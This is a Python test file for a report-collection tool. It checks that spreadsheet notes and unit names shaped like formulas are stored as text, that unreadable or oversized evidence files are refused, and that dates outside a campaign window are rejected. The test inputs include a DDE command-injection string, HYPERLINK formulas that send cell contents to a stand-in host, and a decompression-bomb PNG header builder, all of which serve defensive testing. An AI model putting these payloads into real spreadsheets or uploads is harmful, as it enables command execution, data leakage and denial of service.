"""What ``reportkit collect`` lets into a campaign: text that stays text, evidence the build can
show, dates inside the campaign's window. Every refusal leaves the campaign byte for byte."""

from __future__ import annotations

import csv
import struct
import zlib

import pytest

from reportkit.campaign import load_campaign

from . import test_collect
from .conftest import SAMPLE
from .test_collect import activities, digest, fill, reportkit

# The forms issued once for the module, and a fresh copy of the sample for each test.
blank_forms = test_collect.blank_forms
campaign = test_collect.campaign

HEADING = "1 of 1 returned form has problems; nothing was written"


@pytest.mark.parametrize(
    "note",
    [
        "-2+3+cmd|' /C calc'!A0",
        '+HYPERLINK("http://x"&A1,"y")',
        "-",
        "'trích dẫn",
        "Băng rôn - 2 cái",
    ],
)
def test_a_note_a_spreadsheet_would_run_is_written_as_text_and_read_back_as_typed(
    campaign,
    blank_forms,
    tmp_path,
    note,
):
    fill(
        blank_forms / "so-vp.xlsx",
        tmp_path / "mail" / "so-vp.xlsx",
        "28/5/2021",
        # fill() takes a leading apostrophe as Excel's mark for text: this one is in the note.
        [["17/5/2021", "Pa-nô", 1, None, None, None, None, "'" + note if note[0] == "'" else note]],
    )
    result = reportkit("collect", str(campaign), str(tmp_path / "mail"))
    assert result.returncode == 0, result.stderr
    [written] = [a["note"] for a in activities(campaign) if a["unit_id"] == "so-vp"]
    assert not written.startswith(("=", "+", "-", "@", "\t", "\r"))
    assert written == (note if note[0].isalpha() else "'" + note)
    assert reportkit("validate", str(campaign)).returncode == 0
    loaded = load_campaign(campaign)
    assert list(loaded.activities.loc[loaded.activities["unit_id"] == "so-vp", "note"]) == [note]


def test_a_unit_named_like_a_formula_is_written_as_text_in_units_csv(campaign, blank_forms, tmp_path):
    hostile = '=HYPERLINK("http://x.example/?"&A1,"Bấm vào đây")'
    units = campaign / "units.csv"
    with units.open(encoding="utf-8", newline="") as handle:
        rows = list(csv.reader(handle))
    rows[1][1] = hostile  # so-bcvt's name, typed by hand into units.csv
    with units.open("w", encoding="utf-8", newline="") as handle:
        csv.writer(handle).writerows(rows)
    assert load_campaign(campaign).units.set_index("unit_id").at["so-bcvt", "name"] == hostile
    fill(
        blank_forms / "so-vp.xlsx",
        tmp_path / "mail" / "so-vp.xlsx",
        "28/5/2021",
        [["17/5/2021", "Pa-nô", 1, None, None, None, None, None]],
    )
    result = reportkit("collect", str(campaign), str(tmp_path / "mail"))
    assert result.returncode == 0, result.stderr
    line = next(
        line for line in units.read_text(encoding="utf-8").splitlines() if line.startswith("so-bcvt,")
    )
    assert line.startswith("so-bcvt,\"'=HYPERLINK(")
    assert load_campaign(campaign).units.set_index("unit_id").at["so-bcvt", "name"] == hostile


def _png_header(width: int, height: int) -> bytes:
    """The first bytes of a PNG that says it is ``width`` × ``height`` (a decompression bomb's
    header: decoding it would need gigabytes)."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    ihdr = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", ihdr) + chunk(b"IDAT", zlib.compress(b"\0" * 64))


PHOTO = (SAMPLE / "evidence" / "bang-ron-viettel.jpg").read_bytes()
BAD_EVIDENCE = {
    "text named .jpg": ("bang-ron.jpg", b"Anh gui sau nhe\n", "a photo: JPEG, PNG, GIF or WebP"),
    "half a photo": ("bang-ron.jpg", PHOTO[: len(PHOTO) // 3], "a photo that can be read to its end"),
    "a bomb's header": ("bang-ron.png", _png_header(20_000, 20_000), "a photo of at most 120 megapixels"),
    "text named .mp4": ("clip.mp4", b"not a video", "a video: MP4 or QuickTime (.mov)"),
}


@pytest.mark.parametrize("case", BAD_EVIDENCE)
def test_evidence_the_build_could_not_show_is_refused_at_collect(campaign, blank_forms, tmp_path, case):
    name, data, expected = BAD_EVIDENCE[case]
    form = fill(
        blank_forms / "dn-viettel.xlsx",
        tmp_path / "mail" / "bao-cao.xlsx",
        "01/6/2021",
        [
            ["18/5/2021", "Băng rôn", 2, None, 700000, None, None, None],
            ["18/5/2021", "Băng rôn", 2, None, 700000, None, name, None],
        ],
    )
    (tmp_path / "mail" / name).write_bytes(data)
    before = digest(campaign)
    result = reportkit("collect", str(campaign), str(tmp_path / "mail"))
    assert result.returncode == 2, result.stdout
    assert "Traceback" not in result.stderr
    lines = result.stderr.strip().splitlines()
    assert HEADING in lines[0] and len(lines) == 2, result.stderr
    assert lines[1].startswith(f"{form}, sheet 'Hoạt động', row 7, column 'Minh chứng': {expected}")
    assert name in lines[1]
    assert digest(campaign) == before
    assert reportkit("validate", str(campaign)).returncode == 0


@pytest.mark.parametrize("day", ["17/5/2019", "30/4/2021", "05/6/2021", "17/5/2031"])
def test_an_activity_outside_the_campaigns_window_is_refused_naming_the_window(
    campaign, blank_forms, tmp_path, day
):
    form = fill(
        blank_forms / "so-vp.xlsx",
        tmp_path / "mail" / "so-vp.xlsx",
        "01/6/2021",
        [
            ["01/5/2021", "Pa-nô", 1, None, None, None, None, None],
            ["04/6/2021", "Pa-nô", 1, None, None, None, None, None],
            [day, "Pa-nô", 1, None, None, None, None, None],
        ],
    )
    before = digest(campaign)
    result = reportkit("collect", str(campaign), str(tmp_path / "mail"))
    assert result.returncode == 2, result.stdout
    lines = result.stderr.strip().splitlines()
    assert len(lines) == 2, result.stderr
    assert lines[1] == (
        f"{form}, sheet 'Hoạt động', row 8, column 'Ngày': a date from 01/5/2021 to 04/6/2021, when the "
        f"report is due (the campaign's window is 01/5/2021 to 31/5/2021) (found '{day}')"
    )
    assert digest(campaign) == before
